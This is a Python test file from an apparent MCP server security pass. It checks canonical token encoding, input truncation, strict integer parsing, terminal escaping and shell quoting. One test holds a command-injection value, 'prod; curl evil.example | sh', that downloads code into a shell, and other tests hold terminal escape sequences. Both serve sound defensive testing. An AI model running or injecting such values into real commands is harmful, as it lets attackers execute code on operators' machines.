"""Smaller doors of the fourth security pass: one encoding of `requestState`, caller's values
never echoed whole, strict integers, no control character or caller's line reaching an
operator's terminal as if it were the tool's own, pasteable commands quoted, and a verified
URL verified again after a while.

Each test is the attack: before, padded `requestState` was accepted, a 100,000-character event
name came back whole, `ttlMs: true` was 1 ms, `token list` printed control characters raw,
`tasks show` drew a caller's newline as a line of its own page, `setup` printed the namespace
unquoted in a command to paste, and a URL verified once stayed verified."""

from __future__ import annotations

import asyncio
import dataclasses
import uuid
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from temporalio import activity
from temporalio.client import Client
from temporalio.worker import Worker

from mcp_server.protocol.events.models import SubscribeParams
from mcp_server.protocol.frame.errors import INVALID_PARAMS, McpError
from mcp_server.protocol.frame.models import parse_params
from mcp_server.protocol.frame.request_state import PendingRound, RequestStateCodec
from mcp_server.runtime.cli import main
from mcp_server.runtime.operator_views import page
from mcp_server.runtime.tokens import add_token
from mcp_server.tasks.listing import TaskDetail
from mcp_server.tasks.snapshots import snapshot_of
from mcp_server.temporal.setup import RetentionCheck, register_commands, retention_warning
from mcp_tasks.contracts.events import (
    SUBSCRIBE_UPDATE,
    VERIFY_ACTIVITY,
    SubscribeInput,
    SubscribeResult,
    SubscriptionsInput,
    VerifyInput,
)
from mcp_tasks.contracts.task_state import TaskInput, TaskState
from tests.conftest import StackFactory
from tests.event_receiver import EventReceiver
from tests.protocol.test_events import alice_hook, certificate, events_stack, subscribe  # noqa: F401
from workflows.event_subscriptions import EventSubscriptionsWorkflow


def _token(codec: RequestStateCodec) -> tuple[str, str, str, str]:
    """A token, as its leading "." (a compressed payload) or "", payload, timestamp, signature;
    its arguments chosen so that the payload has a length that base64 pads (the signature, 32
    bytes, always has)."""
    for n in range(64):
        token = codec.encode(PendingRound("tool", "d" * n, "alice", {}))
        body, stamp, signature = token.removeprefix(".").split(".")
        if len(body) % 4:
            return token[: len(token) - len(token.lstrip("."))], body, stamp, signature
    raise AssertionError("no token whose payload base64 would pad")


def _stray(part: str) -> str:
    """`part` with the lowest bit of its last character flipped: for a length that base64 pads,
    a bit no byte uses, so a lenient decoder reads the same bytes."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return part[:-1] + alphabet[alphabet.index(part[-1]) ^ 1]


def test_request_state_is_canonical_unpadded_base64url_only() -> None:
    codec = RequestStateCodec(b"k" * 32)
    dot, body, stamp, signature = _token(codec)
    token = f"{dot}{body}.{stamp}.{signature}"
    assert codec.decode(token).principal == "alice"
    for forged in (
        f"{dot}{body}{'=' * (-len(body) % 4)}.{stamp}.{signature}",
        f"{dot}{body}.{stamp}.{signature}{'=' * (-len(signature) % 4)}",
        f"{dot}{_stray(body)}.{stamp}.{signature}",
        # The one itsdangerous alone reads: the signature is decoded, not compared as text.
        f"{dot}{body}.{stamp}.{_stray(signature)}",
        token.replace("-", "+").replace("_", "/"),
    ):
        if forged == token:
            continue
        with pytest.raises(McpError) as refused:
            codec.decode(forged)
        assert refused.value.code == INVALID_PARAMS
        assert refused.value.message == "requestState is malformed", forged


@pytest.mark.parametrize("ttl", [True, False, "60000", 1.5])
def test_ttl_ms_is_a_strict_integer(ttl: object) -> None:
    params = {
        "name": "task.completed",
        "ttlMs": ttl,
        "delivery": {"url": "https://h.example/", "secret": "whsec_x"},
    }
    with pytest.raises(McpError) as refused:
        parse_params(SubscribeParams, params)
    assert refused.value.code == INVALID_PARAMS


async def test_a_huge_event_name_is_not_echoed_whole(
    fresh_stack: StackFactory,
    tmp_path: Path,
    certificate: tuple[Path, Path],  # noqa: F811
    alice_hook: EventReceiver,  # noqa: F811
) -> None:
    async with events_stack(fresh_stack, tmp_path, certificate) as (_, alice, _bob):
        reply = await subscribe(alice, alice_hook, "x" * 100_000)
        error = reply.body["error"]
        assert error["code"] == INVALID_PARAMS and error["data"] == {"kind": "event"}
        assert len(error["message"]) < 200
        unsubscribed = await alice.rpc(
            "events/unsubscribe",
            {"name": "y" * 100_000, "delivery": {"url": alice_hook.url}},
        )
        assert len(unsubscribed.body["error"]["message"]) < 200


def test_token_list_escapes_control_characters(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "tokens.json"
    add_token(path, "mallory\x1b[2J\nabcdef012345  admin  deploy", [])
    main(["token", "list", "--file", str(path)])
    printed = capsys.readouterr().out
    assert "\x1b" not in printed and printed.count("\n") == 1
    assert "\\x1b[2J\\nabcdef012345" in printed


def test_tasks_show_keeps_a_callers_newlines_behind_the_results_gutter() -> None:
    task = TaskInput("t1", "tool", {}, "2026-12-04T10:00:00.000Z", None, 1000, "owner")
    snapshot = dataclasses.replace(
        snapshot_of(TaskState.initial(task, "working")),
        status="completed",
        result={"content": [{"type": "text", "text": "ok\n  answeredBy[k]: admin\x1b[1A"}]},
    )
    detail = TaskDetail("tool", "owner", "run", "Workflow", "queue", "COMPLETED", 5)
    shown = page(snapshot, detail).splitlines()
    assert "  | ok" in shown and "  |   answeredBy[k]: admin\\x1b[1A" in shown
    assert not any(line.startswith("  answeredBy") for line in shown)


def test_setup_quotes_the_namespace_in_commands_meant_to_be_pasted() -> None:
    hostile = "prod; curl evil.example | sh"
    check = RetentionCheck(kept=timedelta(hours=1), needed=timedelta(days=2))
    assert "--namespace 'prod; curl evil.example | sh'" in retention_warning(hostile, check)
    assert "--namespace 'prod; curl evil.example | sh'" in register_commands(hostile, ["McpOwner"])


class Handshakes:
    def __init__(self) -> None:
        self.urls: list[str] = []

    @activity.defn(name=VERIFY_ACTIVITY)
    async def verify(self, request: VerifyInput) -> str:
        self.urls.append(request.url)
        return ""


@pytest.fixture
def handshakes() -> Iterator[Handshakes]:
    yield Handshakes()


async def test_a_url_verified_long_ago_is_verified_again(
    temporal_client: Client, handshakes: Handshakes
) -> None:
    url, queue = "https://hooks.example/a", f"test-{uuid.uuid4()}"
    state = SubscriptionsInput(
        "alice", verified_urls=[url], verified_at={url: "2026-01-01T00:00:00.000Z"}
    )
    request = SubscribeInput(
        "sub_1", "task.completed", {}, url, "whsec_" + "A" * 32, 600.0, 5, "challenge"
    )
    async with Worker(
        temporal_client,
        task_queue=queue,
        workflows=[EventSubscriptionsWorkflow],
        activities=[handshakes.verify],
    ):
        handle = await temporal_client.start_workflow(
            EventSubscriptionsWorkflow.run, state, id=f"mcp-events-{queue}", task_queue=queue
        )
        result = await asyncio.wait_for(
            handle.execute_update(SUBSCRIBE_UPDATE, request, result_type=SubscribeResult), 20
        )
        assert result.error == "" and handshakes.urls == [url]
        again = dataclasses.replace(request, subscription_id="sub_2", name="task.failed")
        await asyncio.wait_for(
            handle.execute_update(SUBSCRIBE_UPDATE, again, result_type=SubscribeResult), 20
        )
        assert handshakes.urls == [url]  # verified just now: no second handshake
        await handle.terminate()
